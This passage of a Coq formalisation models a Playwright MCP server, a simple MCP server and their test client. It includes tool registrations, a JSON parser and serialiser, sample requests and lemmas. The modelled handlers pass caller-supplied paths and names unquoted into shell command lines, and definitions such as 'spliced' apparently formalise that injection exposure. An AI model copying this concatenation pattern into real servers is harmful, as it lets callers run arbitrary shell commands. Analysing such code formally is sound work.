    arg_or args (js "config_path") (js "./src-tauri/tauri.conf.json") in
  exec (js "npx tauri dev --config " ++ configPath)
    (fun cb =>
       if is_err cb
       then reject (text_result
              (js "Tauri dev server failed:" ++ [nl] ++ stderr cb))
       else resolve (text_result
              (js "Tauri dev server started:" ++ [nl] ++ stdout cb))).

Definition typescript_check (args : Args) : Handler :=
  let tsconfig := arg_or args (js "tsconfig") (js "./tsconfig.json") in
  exec (js "npx tsc --noEmit --project " ++ tsconfig)
    (fun cb =>
       if is_err cb
       then reject (text_result
              (js "TypeScript check failed:" ++ [nl] ++ stderr cb))
       else resolve (text_result (js "TypeScript type checking passed"))).

(** The registrations, in the order of the calls of [registerTool]. *)
Definition registrations : list Registration :=
  [ {| tool_name := js "run_ui_tests";
       tool_description := js "Runs all Playwright UI/UX tests";
       tool_inputSchema := [];
       tool_handler := run_ui_tests |};
    {| tool_name := js "run_accessibility_test";
       tool_description := js "Run accessibility tests with axe-core";
       tool_inputSchema := [];
       tool_handler := run_accessibility_test |};
    {| tool_name := js "security_audit";
       tool_description :=
         js "Run npm audit to check for security vulnerabilities in dependencies";
       tool_inputSchema := [];
       tool_handler := security_audit |};
    {| tool_name := js "github_workflow_validate";
       tool_description := js "Validate GitHub Actions workflow files";
       tool_inputSchema :=
         [ (js "workflow_file", string_param
             "Path to workflow file (optional, defaults to .github/workflows/*.yml)") ];
       tool_handler := github_workflow_validate |};
    {| tool_name := js "code_quality_check";
       tool_description := js "Run ESLint to check code quality and style";
       tool_inputSchema :=
         [ (js "files", string_param
             "Files to check (optional, defaults to src/**/*.js)") ];
       tool_handler := code_quality_check |};
    {| tool_name := js "performance_test";
       tool_description := js "Run Lighthouse performance audit on a URL";
       tool_inputSchema :=
         [ (js "url", string_param "URL to test");
           (js "output",
            {| param_type := js "string";
               param_description := js "Output format (json/html)";
               param_enum := Some [js "json"; js "html"] |}) ];
       tool_handler := performance_test |};
    {| tool_name := js "docker_build_test";
       tool_description := js "Build and test Docker image";
       tool_inputSchema :=
         [ (js "dockerfile", string_param
             "Path to Dockerfile (optional, defaults to ./Dockerfile)");
           (js "image_name", string_param "Name for the Docker image") ];
       tool_handler := docker_build_test |};
    {| tool_name := js "rust_check";
       tool_description := js "Run Rust code analysis and compilation check";
       tool_inputSchema :=
         [ (js "manifest_path", string_param
             "Path to Cargo.toml (optional, defaults to ./Cargo.toml)") ];
       tool_handler := rust_check |};
    {| tool_name := js "rust_test";
       tool_description := js "Run Rust unit tests";
       tool_inputSchema :=
         [ (js "manifest_path", string_param
             "Path to Cargo.toml (optional, defaults to ./Cargo.toml)");
           (js "test_name", string_param "Specific test to run (optional)") ];
       tool_handler := rust_test |};
    {| tool_name := js "rust_fmt_check";
       tool_description := js "Check Rust code formatting with rustfmt";
       tool_inputSchema :=
         [ (js "manifest_path", string_param
             "Path to Cargo.toml (optional, defaults to ./Cargo.toml)") ];
       tool_handler := rust_fmt_check |};
    {| tool_name := js "tauri_build";
       tool_description := js "Build Tauri application for production";
       tool_inputSchema :=
         [ (js "config_path", string_param
             "Path to tauri.conf.json (optional, defaults to ./src-tauri/tauri.conf.json)");
           (js "target", string_param
             "Build target (optional, e.g., x86_64-apple-darwin)") ];
       tool_handler := tauri_build |};
    {| tool_name := js "tauri_dev";
       tool_description := js "Start Tauri development server";
       tool_inputSchema :=
         [ (js "config_path", string_param
             "Path to tauri.conf.json (optional, defaults to ./src-tauri/tauri.conf.json)") ];
       tool_handler := tauri_dev |};
    {| tool_name := js "typescript_check";
       tool_description := js "Run TypeScript type checking";
       tool_inputSchema :=
         [ (js "tsconfig", string_param
             "Path to tsconfig.json (optional, defaults to ./tsconfig.json)") ];
       tool_handler := typescript_check |} ].

(** The handler a name was registered with. *)
Fixpoint registered (name : jsstring) (rs : list Registration)
  : option (Args -> Handler) :=
  match rs with
  | [] => None
  | r :: rest =>
      if JSString.eqb name (tool_name r) then Some (tool_handler r)
      else registered name rest
  end.

(** How a handler settles when the command it runs, if any, calls back
    with [cb]. *)
Definition settles (h : Handler) (cb : ExecCallback) : Settled :=
  match h with
  | settle s => s
  | exec _ callback => callback cb
  end.

(** The command exits with the given status, having written [out] and
    [errs]: [exec] passes no error for status 0, and an error whose [code]
    is the status otherwise. *)
Definition exits_with (status : Z) (out errs : jsstring) : ExecCallback :=
  {| err := if Z.eqb status 0 then None else Some (code_number status);
     stdout := out;
     stderr := errs |}.

End PlaywrightMcpServer.

(** ** A concrete host

    A JSON reader and writer following ECMA-404, so that the dispatcher can
    be run on concrete input.  The texts of the engine's own error messages
    are fixed here.  Two things the engine does are left out: a number is
    kept and written back as the literal it was read from, where the engine
    goes through a double ([1.0] comes back as [1], [1e400] as [null]), and
    the members of an object keep the order of the text, where the engine
    lists the keys that are array indices first.  The host agrees with the
    engine on texts whose numbers are integers of a magnitude below 2^53,
    written without fraction or exponent and other than [-0], and whose
    objects have no key that is an array index; the runs below stay within
    these. *)

Module Node.

Definition is_json_space (c : N) : bool :=
  (N.eqb c 32 || N.eqb c 9 || N.eqb c 10 || N.eqb c 13)%bool.

Fixpoint skip_space (s : jsstring) : jsstring :=
  match s with
  | c :: r => if is_json_space c then skip_space r else s
  | [] => []
  end.

Definition is_digit (c : N) : bool := (N.leb 48 c && N.leb c 57)%bool.

Definition hex_value (c : N) : option N :=
  if is_digit c then Some (c - 48)%N
  else if (N.leb 97 c && N.leb c 102)%bool then Some (c - 87)%N
  else if (N.leb 65 c && N.leb c 70)%bool then Some (c - 55)%N
  else None.

(** The characters of a string literal after its opening quote: the string
    read, most recent character first in [acc], and the text after the
    closing quote. *)
Fixpoint read_string (s : jsstring) (acc : jsstring)
  : option (jsstring * jsstring) :=
  match s with
  | [] => None
  | 34%N :: r => Some (rev acc, r)
  | 92%N :: 117%N :: a :: b :: c :: d :: r =>
      match hex_value a, hex_value b, hex_value c, hex_value d with
      | Some x, Some y, Some z, Some t =>
          read_string r ((((x * 16 + y) * 16 + z) * 16 + t)%N :: acc)
      | _, _, _, _ => None
      end
  | 92%N :: e :: r =>
      match e with
      | 34%N => read_string r (34%N :: acc)
      | 92%N => read_string r (92%N :: acc)
      | 47%N => read_string r (47%N :: acc)
      | 98%N => read_string r (8%N :: acc)
      | 102%N => read_string r (12%N :: acc)
      | 110%N => read_string r (10%N :: acc)
      | 114%N => read_string r (13%N :: acc)
      | 116%N => read_string r (9%N :: acc)
      | _ => None
      end
  | c :: r => if N.ltb c 32 then None else read_string r (c :: acc)
  end.

Fixpoint take_digits (s : jsstring) : jsstring * jsstring :=
  match s with
  | c :: r =>
      if is_digit c then let (d, r') := take_digits r in (c :: d, r')
      else ([], s)
  | [] => ([], [])
  end.

(** A number literal at the head of [s]: sign, integer part without a
    leading zero, optional fraction, optional exponent. *)
Definition read_number (s : jsstring) : option (jsstring * jsstring) :=
  let (sign, s1) :=
    match s with 45%N :: r => ([45%N], r) | _ => ([], s) end in
  let (int, s2) := take_digits s1 in
  match int with
  | [] => None
  | 48%N :: _ :: _ => None
  | _ =>
      let frac_part :=
        match s2 with
        | 46%N :: r =>
            let (f, r') := take_digits r in
            match f with [] => None | _ => Some (46%N :: f, r') end
        | _ => Some ([], s2)
        end in
      match frac_part with
      | None => None
      | Some (frac, s3) =>
          let exp_part :=
            match s3 with
            | e :: r =>
                if (N.eqb e 101 || N.eqb e 69)%bool then
                  let (esign, r1) :=
                    match r with
                    | 43%N :: r' => ([43%N], r')
                    | 45%N :: r' => ([45%N], r')
                    | _ => ([], r)
                    end in
                  let (d, r2) := take_digits r1 in
                  match d with
                  | [] => None
                  | _ => Some (e :: esign ++ d, r2)
                  end
                else Some ([], s3)
            | [] => Some ([], s3)
            end in
          match exp_part with
          | None => None
          | Some (ex, s4) => Some (sign ++ int ++ frac ++ ex, s4)
          end
      end
  end.

(** Defining a property: a later member with the same key replaces the
    value and keeps the position of the first. *)
Fixpoint define_property (k : jsstring) (v : JSValue)
    (fields : list (jsstring * JSValue)) : list (jsstring * JSValue) :=
  match fields with
  | [] => [(k, v)]
  | (k', v') :: r =>
      if JSString.eqb k k' then (k, v) :: r
      else (k', v') :: define_property k v r
  end.

Fixpoint read_value (fuel : nat) (s : jsstring)
  : option (JSValue * jsstring) :=
  match fuel with
  | O => None
  | S fuel' =>
      match skip_space s with
      | 123%N :: r =>
          match skip_space r with
          | 125%N :: r' => Some (JObject [], r')
          | r' => read_members fuel' r' []
          end
      | 91%N :: r =>
          match skip_space r with
          | 93%N :: r' => Some (JArray [], r')
          | r' => read_elements fuel' r' []
          end
      | 34%N :: r =>
          match read_string r [] with
          | Some (str, r') => Some (JString str, r')
          | None => None
          end
      | 116%N :: 114%N :: 117%N :: 101%N :: r => Some (JBool true, r)
      | 102%N :: 97%N :: 108%N :: 115%N :: 101%N :: r => Some (JBool false, r)
      | 110%N :: 117%N :: 108%N :: 108%N :: r => Some (JNull, r)
      | s' =>
          match read_number s' with
          | Some (lit, r) => Some (JNumber lit, r)
          | None => None
          end
      end
  end

with read_elements (fuel : nat) (s : jsstring) (acc : list JSValue)
  : option (JSValue * jsstring) :=
  match fuel with
  | O => None
  | S fuel' =>
      match read_value fuel' s with
      | Some (v, r) =>
          match skip_space r with
          | 44%N :: r' => read_elements fuel' r' (v :: acc)
          | 93%N :: r' => Some (JArray (rev (v :: acc)), r')
          | _ => None
          end
      | None => None
      end
  end

with read_members (fuel : nat) (s : jsstring)
    (acc : list (jsstring * JSValue)) : option (JSValue * jsstring) :=
  match fuel with
  | O => None
  | S fuel' =>
      match skip_space s with
      | 34%N :: r =>
          match read_string r [] with
          | Some (k, r1) =>
              match skip_space r1 with
              | 58%N :: r2 =>
                  match read_value fuel' r2 with
                  | Some (v, r3) =>
                      match skip_space r3 with
                      | 44%N :: r4 =>
                          read_members fuel' r4 (define_property k v acc)
                      | 125%N :: r4 =>
                          Some (JObject (define_property k v acc), r4)
                      | _ => None
                      end
                  | None => None
                  end
              | _ => None
              end
          | None => None
          end
      | _ => None
      end
  end.

Definition parse (text : jsstring) : JSValue + jsstring :=
  match read_value (2 * length text + 2) text with
  | Some (v, rest) =>
      match skip_space rest with
      | [] => inl v
      | _ :: _ => inr (js "Unexpected non-whitespace character after JSON")
      end
  | None => inr (js "Unexpected token in JSON")
  end.

Definition hex_digit (n : N) : N :=
  if N.ltb n 10 then (48 + n)%N else (87 + n)%N.

(** The escape of one code unit, backslash u and four hexadecimal digits. *)
Definition unicode_escape (c : N) : jsstring :=
  [92%N; 117%N;
   hex_digit (N.modulo (N.div c 4096) 16);
   hex_digit (N.modulo (N.div c 256) 16);
   hex_digit (N.modulo (N.div c 16) 16);
   hex_digit (N.modulo c 16)].

Definition is_high_surrogate (c : N) : bool :=
  (N.leb 55296 c && N.leb c 56319)%bool.

Definition is_low_surrogate (c : N) : bool :=
  (N.leb 56320 c && N.leb c 57343)%bool.

Definition escape_one (c : N) : jsstring :=
  if N.eqb c 34 then [92%N; 34%N]
  else if N.eqb c 92 then [92%N; 92%N]
  else if N.eqb c 8 then [92%N; 98%N]
  else if N.eqb c 9 then [92%N; 116%N]
  else if N.eqb c 10 then [92%N; 110%N]
  else if N.eqb c 12 then [92%N; 102%N]
  else if N.eqb c 13 then [92%N; 114%N]
  else if N.ltb c 32 then unicode_escape c
  else if (is_high_surrogate c || is_low_surrogate c)%bool
       then unicode_escape c
  else [c].

(** The characters of a string between the quotes JSON.stringify puts
    around it; a surrogate is kept only as part of a pair. *)
Fixpoint quote_chars (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: r =>
      match r with
      | d :: r' =>
          if (is_high_surrogate c && is_low_surrogate d)%bool
          then c :: d :: quote_chars r'
          else escape_one c ++ quote_chars r
      | [] => escape_one c
      end
  end.

Definition quote (s : jsstring) : jsstring :=
  34%N :: quote_chars s ++ [34%N].

(** JSON.stringify of a value other than undefined: properties holding
    undefined are left out, undefined array elements are written null. *)
Fixpoint write_value (v : JSValue) : jsstring :=
  match v with
  | JUndefined => js "null"
  | JNull => js "null"
  | JBool true => js "true"
  | JBool false => js "false"
  | JNumber lit => lit
  | JString s => quote s
  | JArray items =>
      91%N ::
      (fix elements (l : list JSValue) : jsstring :=
         match l with
         | [] => []
         | x :: r =>
             write_value x
             ++ match r with [] => [] | _ :: _ => 44%N :: elements r end
         end) items
      ++ [93%N]
  | JObject fields =>
      123%N ::
      (fix members (l : list (jsstring * JSValue)) (first : bool)
         : jsstring :=
         match l with
         | [] => []
         | (k, x) :: r =>
             match x with
             | JUndefined => members r first
             | _ =>
                 (if first then [] else [44%N])
                 ++ quote k ++ 58%N :: write_value x ++ members r false
             end
         end) fields true
      ++ [125%N]
  end.

Definition json_of_tool (t : ToolDescriptor) : JSValue :=
  JObject
    [ (js "name", JString (name t));
      (js "description", JString (description t));
      (js "inputSchema",
       JObject
         [ (js "type", JString (schema_type (inputSchema t)));
           (js "properties", JObject (properties (inputSchema t)));
           (js "required",
            JArray (map JString (required (inputSchema t)))) ]) ].

Definition json_of_tool_result (r : ToolResult) : JSValue :=
  JObject
    [ (js "content",
       JArray (map (fun b => JObject [ (js "type", JString (type b));
                                       (js "text", JString (text b)) ])
                 (content r)));
      (js "isError",
       match isError r with Some b => JBool b | None => JUndefined end) ].

(** The response object, with its properties in the order the object
    literals of [processMessage] list them. *)
Definition json_of_response (r : Response) : JSValue :=
  JObject
    [ (js "jsonrpc", JString (jsonrpc r));
      (js "id", id r);
      match body r with
      | result_initialize i =>
          (js "result",
           JObject
             [ (js "protocolVersion", JString (protocolVersion i));
               (js "capabilities", JObject (capabilities i));
               (js "serverInfo",
                JObject [ (js "name", JString (serverInfo_name i));
                          (js "version", JString (serverInfo_version i)) ]) ])
      | result_tools ts => (js "result",
                            JObject [ (js "tools", JArray (map json_of_tool ts)) ])
      | result_call c => (js "result", json_of_tool_result c)
      | error_object c m =>
          (js "error",
           JObject [ (js "code", JNumber (of_Z c));
                     (js "message", JString m) ])
      end ].

Definition stringify (r : Response) : jsstring :=
  write_value (json_of_response r).

(** The host, with or without a [require] in module scope. *)
Definition host (require : bool) : Host :=
  {| JSON_parse := parse;
     JSON_stringify := stringify;
     Number_toString := fun lit => lit;
     module_require := require;
     reference_error_message := fun x => x ++ js " is not defined";
     type_error_message :=
       fun k => js "Cannot read properties of null (reading '" ++ k ++ js "')";
     to_primitive_error_message :=
       js "Cannot convert object to primitive value" |}.

(** A world whose project directory is [/srv/app], an existing directory,
    and whose spawned processes behave as [procs] says. *)
Definition world (procs : list (list ChildEvent)) : World :=
  {| env_PROJECT_DIR := Some (js "/srv/app");
     process_cwd := js "/";
     fs_existsSync := fun p => JSString.eqb p (js "/srv/app");
     fs_isDirectory := fun p => JSString.eqb p (js "/srv/app");
     children := procs |}.

End Node.

(** ** Sample requests

    Lines a client may send, and the values JSON.parse makes of them. *)

Module Sample.

Definition resources_list_line : jsstring :=
  jq "{'jsonrpc':'2.0','id':7,'method':'resources/list'}".

Definition resources_list_request : JSValue :=
  JObject [ (js "jsonrpc", JString (js "2.0"));
            (js "id", JNumber (js "7"));
            (js "method", JString (js "resources/list")) ].

Definition tools_list_line : jsstring :=
  jq "{'jsonrpc':'2.0','id':1,'method':'tools/list','params':{}}".

Definition tools_list_request : JSValue :=
  JObject [ (js "jsonrpc", JString (js "2.0"));
            (js "id", JNumber (js "1"));
            (js "method", JString (js "tools/list"));
            (js "params", JObject []) ].

(** A tools/call request with the given id, tool name and arguments. *)
Definition call_line (id name arguments : string) : jsstring :=
  jq "{'jsonrpc':'2.0','id':" ++ js id
  ++ jq ",'method':'tools/call','params':{'name':'" ++ js name
  ++ jq "','arguments':" ++ jq arguments ++ jq "}}".

Definition call_request (id name : string) (arguments : JSValue) : JSValue :=
  JObject [ (js "jsonrpc", JString (js "2.0"));
            (js "id", JNumber (js id));
            (js "method", JString (js "tools/call"));
            (js "params",
             JObject [ (js "name", JString (js name));
                       (js "arguments", arguments) ]) ].

(** A process that writes [out] and [errs] and exits with [code]. *)
Definition exiting (out errs : string) (code : Z) : list ChildEvent :=
  [stdout_data (js out); stderr_data (js errs); close (Some code)].

End Sample.

(** ** Further vocabulary for the two servers *)

Module Tool.

(** What [handleToolCall] announces on standard error for a tool, and the
    reporter and the test file it passes to [runPlaywrightTests]. *)
Definition notice (tool : jsstring) : jsstring :=
  if JSString.eqb tool (js "run_ui_tests") then js "Running UI tests..."
  else js "Running accessibility tests...".

Definition reporter (tool : jsstring) : jsstring :=
  if JSString.eqb tool (js "run_ui_tests") then js "list" else js "json".

Definition testMatch (tool : jsstring) : jsstring :=
  if JSString.eqb tool (js "run_ui_tests") then js "tests/ui.spec.ts"
  else js "tests/accessibility.spec.ts".

End Tool.

(** What a response says about the request: which branch of the
    dispatcher produced it. *)
Definition produced_by (host : Host) (parsed : JSValue) (w : World)
    (r : Response) : Prop :=
  match body r with
  | result_initialize i =>
      SimpleMCPServer.method_is host parsed (js "initialize") = true
      /\ i = {| protocolVersion := js "2024-11-05";
                capabilities := [(js "tools", JObject [])];
                serverInfo_name := js "playwright-mcp-server";
                serverInfo_version := js "1.0.0" |}
  | result_tools ts =>
      SimpleMCPServer.method_is host parsed (js "initialize") = false
      /\ SimpleMCPServer.method_is host parsed (js "tools/list") = true
      /\ ts = SimpleMCPServer.tools
  | result_call payload =>
      exists n a,
        SimpleMCPServer.call_of host parsed = Some (n, a)
        /\ outcome (SimpleMCPServer.handleToolCall host n a w) = Returned payload
  | error_object code msg =>
      code = (-32601)%Z /\ msg = js "Method not found"
      /\ SimpleMCPServer.method_is host parsed (js "initialize") = false
      /\ SimpleMCPServer.method_is host parsed (js "tools/list") = false
      /\ SimpleMCPServer.method_is host parsed (js "tools/call") = false
  end.

(** ** playwright-mcp/test-client.js: class MCPClient *)

Module TestClient.

(** The state of a client that matters to the protocol: the id of its next
    request.  The counter is a JavaScript number, a double.  The
    constructor sets it to 1 and only [this.messageId++] changes it, so it
    always holds an integer of 1 .. 2^53; it is modelled by that integer.
    JSON.stringify writes such a number in decimal. *)
Record MCPClient := { messageId : Z }.

(** The largest value of the counter: 2^53. *)
Definition counter_limit : Z := 9007199254740992.

(** [n + 1] as [this.messageId++] computes it in doubles, for an integer
    [n] of 1 .. 2^53: the sum is exact below 2^53; 2^53 + 1 is no double
    and is rounded to the even neighbour, 2^53 itself, so the counter
    stops there. *)
Definition increment (n : Z) : Z :=
  if Z.ltb n counter_limit then (n + 1)%Z else n.

(** [new MCPClient(serverPath)] *)
Definition new_client : MCPClient := {| messageId := 1 |}.

(** The request methods: [initialize()], [listTools()] and
    [callTool(toolName, args = {})], the last with its optional second
    argument. *)
Inductive Request :=
| initialize
| listTools
| callTool (toolName : jsstring) (args : option JSValue).

(** The [message] object a request method builds with the id [n]. *)
Definition message_of (q : Request) (n : Z) : JSValue :=
  match q with
  | initialize =>
      JObject
        [ (js "jsonrpc", JString (js "2.0"));
          (js "id", JNumber (of_Z n));
          (js "method", JString (js "initialize"));
          (js "params",
           JObject
             [ (js "protocolVersion", JString (js "2024-11-05"));
               (js "capabilities", JObject []);
               (js "clientInfo",
                JObject [ (js "name", JString (js "test-client"));
                          (js "version", JString (js "1.0.0")) ]) ]) ]
  | listTools =>
      JObject
        [ (js "jsonrpc", JString (js "2.0"));
          (js "id", JNumber (of_Z n));
          (js "method", JString (js "tools/list"));
          (js "params", JObject []) ]
  | callTool toolName args =>
      JObject
        [ (js "jsonrpc", JString (js "2.0"));
          (js "id", JNumber (of_Z n));
          (js "method", JString (js "tools/call"));
          (js "params",
           JObject
             [ (js "name", JString toolName);
               (js "arguments",
                match args with Some a => a | None => JObject [] end) ]) ]
  end.

(** A request method up to its call of [sendMessage]: the message, with
    [id: this.messageId++], and the client afterwards. *)
Definition build (c : MCPClient) (q : Request) : JSValue * MCPClient :=
  (message_of q (messageId c), {| messageId := increment (messageId c) |}).

(** The messages of a sequence of requests made one after the other. *)
Fixpoint session (c : MCPClient) (qs : list Request) : list JSValue :=
  match qs with
  | [] => []
  | q :: rest => fst (build c q) :: session (snd (build c q)) rest
  end.

(** The [id] property of a message. *)
Definition id_of (m : JSValue) : option JSValue :=
  match m with
  | JObject fields => own_property (js "id") fields
  | _ => None
  end.

(** The listener [onData] of [sendMessage], over the data events that
    arrive before the timer of ten seconds fires: every event is appended
    to [response], and the first time the accumulated text parses the
    promise is resolved with the value and the listener removed; when the
    events run out the timer rejects. *)
Fixpoint onData (host : Host) (events : list jsstring) (response : jsstring)
  : Outcome JSValue :=
  match events with
  | [] => Thrown (mkError Error (js "Response timeout"))
  | data :: rest =>
      match JSON_parse host (response ++ data) with
      | inl parsed => Returned parsed
      | inr _ => onData host rest (response ++ data)
      end
  end.

(** [sendMessage] starts with an empty [response]. *)
Definition sendMessage_result (host : Host) (events : list jsstring)
  : Outcome JSValue :=
  onData host events [].

(** None of the texts accumulated over [events] parses. *)
Fixpoint none_parses (host : Host) (events : list jsstring)
    (response : jsstring) : bool :=
  match events with
  | [] => true
  | data :: rest =>
      match JSON_parse host (response ++ data) with
      | inl _ => false
      | inr _ => none_parses host rest (response ++ data)
      end
  end.

End TestClient.

(** Vocabulary for the handlers of playwright-mcp-server. *)

Module Registered.

Import PlaywrightMcpServer.

(** The payload a promise is settled with, resolved or rejected. *)
Definition payload_of (s : Settled) : ToolResult :=
  match s with resolve r => r | reject r => r end.

(** The parameters the input schema of a registration declares. *)
Definition declared (r : Registration) : list jsstring :=
  map fst (tool_inputSchema r).

(** The value of an argument as the handlers see it: an argument that is
    absent and one that is the empty string are both falsy. *)
Definition effective (args : Args) (k : jsstring) : option jsstring :=
  match arg args k with
  | Some v => if truthy v then Some v else None
  | None => None
  end.

(** What a template of a command line puts around an interpolated value:
    before it a space or an equals sign, after it a space or nothing. *)
Definition separator_before (before : jsstring) : bool :=
  match rev before with
  | c :: _ => (N.eqb c 32 || N.eqb c 61)%bool
  | [] => false
  end.

Definition separator_after (after : jsstring) : bool :=
  match after with
  | c :: _ => N.eqb c 32
  | [] => true
  end.

(** [v] is spliced into [text] as it is: [text] is [v] between two parts
    of the template, with nothing but the template's separator on either
    side of it; no quote and no escape character is put around [v], and
    [v] itself is not changed. *)
Definition spliced (v text : jsstring) : Prop :=
  exists before after,
    text = before ++ v ++ after
    /\ separator_before before = true
    /\ separator_after after = true.

(** The characters a shell reads as quoting or escaping: the double
    quote, the apostrophe, the backslash and the backquote. *)
Definition quoting (c : N) : bool :=
  (N.eqb c 34 || N.eqb c 39 || N.eqb c 92 || N.eqb c 96)%bool.

(** A text without any of them. *)
Definition plain (text : jsstring) : bool :=
  forallb (fun c => negb (quoting c)) text.

(** The command a handler runs and the callback it gives to [exec]. *)
Definition command_of (h : Handler) : jsstring :=
  match h with exec command _ => command | settle _ => [] end.

Definition callback_of (h : Handler) (cb : ExecCallback) : Settled :=
  match h with exec _ callback => callback cb | settle s => s end.

End Registered.

(** ** Further sample inputs *)

Module Scenario.

Definition initialize_line : jsstring :=
  jq "{'jsonrpc':'2.0','id':0,'method':'initialize','params':{}}".

Definition initialize_request : JSValue :=
  JObject [ (js "jsonrpc", JString (js "2.0"));
            (js "id", JNumber (js "0"));
            (js "method", JString (js "initialize"));
            (js "params", JObject []) ].

(** A tools/list request of another protocol version, with a property
    the protocol does not know. *)
Definition odd_tools_list_line : jsstring :=
  jq "{'jsonrpc':'1.0','id':1,'method':'tools/list','extra':[true]}".

Definition odd_tools_list_request : JSValue :=
  JObject [ (js "jsonrpc", JString (js "1.0"));
            (js "id", JNumber (js "1"));
            (js "method", JString (js "tools/list"));
            (js "extra", JArray [JBool true]) ].

(** A tools/call request whose tool name is an object with a member
    [toString] of its own. *)
Definition odd_name_line : jsstring :=
  jq "{'jsonrpc':'2.0','id':4,'method':'tools/call','params':{'name':{'toString':1},'arguments':{}}}".

Definition odd_name : JSValue := JObject [ (js "toString", JNumber (js "1")) ].

(** A chunk of two lines: a call of run_ui_tests, then a tools/list
    request. *)
Definition call_then_list : jsstring :=
  Sample.call_line "3" "run_ui_tests" "{}"
  ++ nl :: Sample.tools_list_line ++ [nl].

(** Registrations of playwright-mcp-server. *)
Definition security_audit_registration : PlaywrightMcpServer.Registration :=
  nth 2 PlaywrightMcpServer.registrations
    (PlaywrightMcpServer.Build_Registration [] [] []
       PlaywrightMcpServer.security_audit).

Definition code_quality_check_registration
  : PlaywrightMcpServer.Registration :=
  nth 4 PlaywrightMcpServer.registrations security_audit_registration.

Definition performance_test_registration
  : PlaywrightMcpServer.Registration :=
  nth 5 PlaywrightMcpServer.registrations security_audit_registration.

Definition docker_build_test_registration
  : PlaywrightMcpServer.Registration :=
  nth 6 PlaywrightMcpServer.registrations security_audit_registration.

Definition rust_test_registration : PlaywrightMcpServer.Registration :=
  nth 8 PlaywrightMcpServer.registrations security_audit_registration.

End Scenario.

(** The texts written to standard output in a trace, in order. *)
Fixpoint stdout_texts (tr : list Event) : list jsstring :=
  match tr with
  | [] => []
  | stdout_write t :: r => t :: stdout_texts r
  | _ :: r => stdout_texts r
  end.

(** The number of processes spawned in a trace. *)
Fixpoint spawns (tr : list Event) : nat :=
  match tr with
  | [] => 0
  | spawn _ _ _ :: r => S (spawns r)
  | _ :: r => spawns r
  end.

(** A computation that runs no process and waits for none: it spawns
    nothing, leaves the world as it found it, and ends, with a value or
    with an exception. *)
Definition Inert {A} (m : M A) : Prop :=
  forall w,
    spawns (trace (m w)) = 0
    /\ world (m w) = w
    /\ outcome (m w) <> Pending.

(** * Properties *)

Unset Implicit Arguments.

(** ** Strings and framing *)

Lemma eqb_spec (a b : jsstring) : reflect (a = b) (JSString.eqb a b).
Proof.
  revert b; induction a as [|x a IH]; intros [|y b]; simpl;
    try (constructor; congruence).
  destruct (N.eqb_spec x y) as [->|Hxy]; simpl.
  - destruct (IH b) as [->|Hab]; constructor; congruence.
  - constructor; congruence.
Qed.

Lemma eqb_refl (a : jsstring) : JSString.eqb a a = true.
Proof. destruct (eqb_spec a a); congruence. Qed.

Lemma strict_equals_string_true v lit :
  strict_equals_string v lit = true -> v = JString lit.
Proof.
  destruct v; simpl; try discriminate.
  intros H. destruct (eqb_spec s lit); congruence.
Qed.

Lemma distinct_NoDup l : distinct l = true -> NoDup l.
Proof.
  induction l as [|x l IH]; simpl; intros H; constructor.
  - apply andb_true_iff in H as [H _]. apply negb_true_iff in H.
    intros Hin. apply not_true_iff_false in H. apply H.
    apply existsb_exists. exists x. split; [assumption|apply eqb_refl].
  - apply andb_true_iff in H as [_ H]. auto.
Qed.

Lemma split_nl_not_nil s : split_nl s <> [].
Proof.
  destruct s as [|c r]; simpl; [discriminate|].
  destruct (N.eqb c nl); [discriminate|].
  destruct (split_nl r); discriminate.
Qed.

(** Splitting distributes over a line feed. *)
Lemma split_nl_at_nl a b :
  split_nl (a ++ nl :: b) = split_nl a ++ split_nl b.
Proof.
  induction a as [|c a IH]; simpl.
  - reflexivity.
  - destruct (N.eqb c nl).
    + now rewrite IH.
    + rewrite IH.
      pose proof (split_nl_not_nil a) as Hne.
      destruct (split_nl a); [contradiction|reflexivity].
Qed.

(** A text without a line feed is one line. *)
Lemma split_nl_one_line m :
  existsb (N.eqb nl) m = false -> split_nl m = [m].
Proof.
  induction m as [|c m IH]; cbn [existsb split_nl]; [reflexivity|].
  rewrite (N.eqb_sym nl c).
  destruct (N.eqb c nl); cbn [orb]; [discriminate|].
  intros H. now rewrite (IH H).
Qed.


Lemma units_nil : units [] = [].
Proof. reflexivity. Qed.



(** *** Splitting a text at any point *)

Lemma last_line_nil : last_line [] = [].
Proof. reflexivity. Qed.

Lemma last_line_after_nl a : last_line (a ++ [nl]) = [].
Proof.
  unfold last_line. rewrite split_nl_at_nl. cbn [split_nl].
  now rewrite last_last.
Qed.

Lemma first_line_nil : first_line [] = [].
Proof. reflexivity. Qed.

Lemma first_line_before_nl b : first_line (nl :: b) = [].
Proof. reflexivity. Qed.




(** A line passes the test of the data handler when one of its characters
    is not white space. *)
Lemma truthy_trim_start s :
  truthy (trim_start s) = existsb (fun c => negb (is_white c)) s.
Proof.
  induction s as [|c s IH]; cbn [trim_start existsb]; [reflexivity|].
  destruct (is_white c); [exact IH | reflexivity].
Qed.

Lemma existsb_trim_start f s :
  (forall c, f c = negb (is_white c)) ->
  existsb f (trim_start s) = existsb f s.
Proof.
  intros Hf. induction s as [|c s IH]; cbn [trim_start existsb];
    [reflexivity|].
  destruct (is_white c) eqn:Hc; [|reflexivity].
  now rewrite IH, Hf, Hc.
Qed.

Lemma existsb_rev {A} (f : A -> bool) l : existsb f (rev l) = existsb f l.
Proof.
  induction l as [|x l IH]; [reflexivity|].
  cbn [rev existsb]. rewrite existsb_app, IH. cbn [existsb].
  now rewrite orb_false_r, orb_comm.
Qed.

Lemma truthy_rev (l : jsstring) : truthy (rev l) = truthy l.
Proof.
  destruct l as [|x l]; [reflexivity|].
  cbn [rev truthy]. now destruct (rev l).
Qed.

Lemma non_blank_spec s :
  non_blank s = existsb (fun c => negb (is_white c)) s.
Proof.
  unfold non_blank, trim.
  rewrite truthy_rev, truthy_trim_start, existsb_rev.
  now apply existsb_trim_start.
Qed.







(** ** The monad *)

Section MonadFacts.

Context {A B : Type}.

Lemma bind_returned (a : A) (f : A -> M B) w :
  bind (lift (Returned a)) f w = f a w.
Proof. reflexivity. Qed.

Lemma bind_thrown (e : JSError) (f : A -> M B) w :
  bind (lift (Thrown e)) f w = mkRun [] w (Thrown e).
Proof. reflexivity. Qed.

Lemma bind_ret (a : A) (f : A -> M B) w : bind (ret a) f w = f a w.
Proof. reflexivity. Qed.

Lemma bind_emit (ev : Event) (m : M B) w :
  bind (emit ev) (fun _ => m) w
  = mkRun (ev :: trace (m w)) (world (m w)) (outcome (m w)).
Proof. reflexivity. Qed.

(** A computation that runs to a value continues with it. *)
